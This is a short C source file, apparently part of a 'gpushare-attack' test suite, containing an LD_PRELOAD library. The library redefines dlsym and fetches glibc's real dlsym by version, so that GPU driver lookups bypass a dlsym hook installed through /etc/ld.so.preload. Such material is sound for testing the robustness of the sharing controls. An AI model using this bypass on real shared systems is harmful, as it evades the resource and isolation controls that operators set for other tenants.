/* libgpushare-attack-dlsym.so: a preload of the workload's own, named in LD_PRELOAD so
 * that the loader puts it before /etc/ld.so.preload, defining dlsym as the C
 * library's: it fetches that one by version from libc.so.6, so lookups of the
 * driver's entry points skip any dlsym hook loaded after it (gpushare-attack loader
 * preload). */
#include <dlfcn.h>
#include <stddef.h>

static void *(*libc_dlsym)(void *, const char *);

__attribute__((visibility("default"))) void *dlsym(void *handle, const char *name) {
    if (!libc_dlsym) {
        static const char *const versions[] = {"GLIBC_2.34", "GLIBC_2.2.5", "GLIBC_2.17"};
        void *libc = dlopen("libc.so.6", RTLD_LAZY | RTLD_NOLOAD);
        for (size_t i = 0; libc && !libc_dlsym && i < sizeof versions / sizeof versions[0]; i++)
            libc_dlsym = (void *(*)(void *, const char *))dlvsym(libc, "dlsym", versions[i]);
        if (!libc_dlsym) return NULL;
    }
    return libc_dlsym(handle, name);
}
